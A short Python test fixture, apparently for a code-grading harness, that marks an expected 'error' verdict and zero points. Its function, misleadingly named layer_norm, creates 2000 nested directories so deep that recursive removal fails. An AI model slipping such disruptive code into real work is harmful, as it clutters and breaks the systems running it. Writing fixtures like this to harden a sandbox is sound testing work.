"""Makes folders within folders, too deep to be removed by recursion."""

# verdict: error
# points: 0

import os


def layer_norm(x, *arguments, **keywords):
    for _ in range(2000):
        os.mkdir("deeper")
        os.chdir("deeper")
    return x
